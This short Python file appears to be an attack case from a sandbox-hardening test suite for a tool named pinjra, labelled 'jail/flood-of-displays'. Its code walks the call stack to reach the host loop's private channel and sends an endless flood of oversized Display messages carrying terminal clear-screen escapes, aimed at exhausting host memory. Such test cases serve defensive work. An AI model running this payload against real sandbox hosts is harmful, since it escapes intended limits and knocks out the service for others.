# attack: jail/flood-of-displays
# oracle: runaway
# imports: sys, pinjra
# tools:
# source: own
# note: pictures without end, each as large as a message may be: the host would keep them all
import sys

from pinjra.wire.messages import Display

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "_checkpoint"):
    frame = frame.f_back
loop = frame.f_locals["self"]
while True:
    loop._channel.send(
        Display(run=loop._channel.run, media_type="\x1b[2J" * 9, name="n" * 9999, blobs=(bytes(1 << 20),))
    )
